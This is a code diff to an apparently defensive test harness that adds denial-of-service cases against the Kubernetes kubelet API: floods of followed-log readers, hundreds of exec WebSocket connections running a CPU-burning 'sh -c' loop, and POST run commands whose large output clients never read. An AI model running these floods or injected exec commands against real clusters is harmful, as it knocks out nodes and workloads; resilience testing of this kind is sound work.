@@ -163,7 +163,7 @@ const halfOpen = (name: string, headers: Readonly<Record<string, string>>) =>
     })
   )
 
-const unread = (name: string, about: string, count: number, path: string) =>
+const unread = (name: string, about: string, count: number, path: string, method = "GET") =>
   attack(`unread-${name}`, about, (kubelet, scale) =>
     Effect.gen(function* () {
       const all = yield* Effect.forEach(
@@ -172,7 +172,7 @@ const unread = (name: string, about: string, count: number, path: string) =>
           Effect.tap(open(kubelet), (one) =>
             Effect.sync(() => {
               one?.socket.pause()
-              one?.socket.write(`${head(ATTACKER, "GET", path)}\r\n`.repeat(20))
+              one?.socket.write(`${head(ATTACKER, method, path)}\r\n`.repeat(20))
             })
           ),
         { concurrency: 16 }
@@ -181,6 +181,31 @@ const unread = (name: string, about: string, count: number, path: string) =>
       return { finding: `${all.length} connections that do not read, ${closedOf(all)} closed`, holds: true }
     })
   )
+
+const read = attack("read-logs", "followed logs of a container that writes without end, read", (kubelet, scale) =>
+  Effect.gen(function* () {
+    const all = yield* openMany(kubelet, 1000 * scale, `${head(ATTACKER, "GET", `${LOGS}?follow=true`)}\r\n`)
+    yield* silence(scale, 10_000)
+    return { finding: `${all.length} readers, ${closedOf(all)} closed`, holds: true }
+  })
+)
+
+/** One turn of this loop takes milliseconds of the processor. */
+const BUSY = "for i in $(seq 1 10000); do seq 1 10000 > /dev/null; done"
+const busyPath = `/exec/default/${POD}/${CONTAINER}?stdout=true${["sh", "-c", BUSY]
+  .map((word) => `&command=${encodeURIComponent(word)}`)
+  .join("")}`
+
+const busy = attack("busy-commands", "commands that never wait", (kubelet, scale) =>
+  Effect.gen(function* () {
+    const all = yield* openMany(kubelet, 300 * scale, `${head(ATTACKER, "GET", busyPath, webSocket)}\r\n`)
+    yield* silence(scale, 10_000)
+    return { finding: `${all.length} commands, ${closedOf(all)} closed`, holds: true }
+  })
+)
+
+/** Writes as much as is kept of one command; a tab is no space, which would divide the words. */
+const MUCH = `sh -c ${"seq\t1\t10000;".repeat(60)}sleep\t1000`
 
 /** A masked frame of a WebSocket, with a mask of zeros. */
 const frame = (opcode: number, payload: Uint8Array): Buffer => {
@@ -217,6 +242,15 @@ export const kubelet: ReadonlyArray<Attack> = [
   halfOpen("WebSocket", webSocket),
   halfOpen("SPDY", spdy),
   unread("logs", "followed logs of a container that writes without end, never read", 300, `${LOGS}?follow=true`),
+  read,
+  busy,
+  unread(
+    "runs",
+    "outputs of commands, held for clients that do not read",
+    300,
+    `/run/default/${POD}/${CONTAINER}?cmd=${encodeURIComponent(MUCH)}`,
+    "POST"
+  ),
   unread("answers", "answers that are never read", 600, "/pods"),
   flood("pings", webSocket, () => repeated(5000, () => frame(9, new Uint8Array()))),
   flood("input", webSocket, () =>
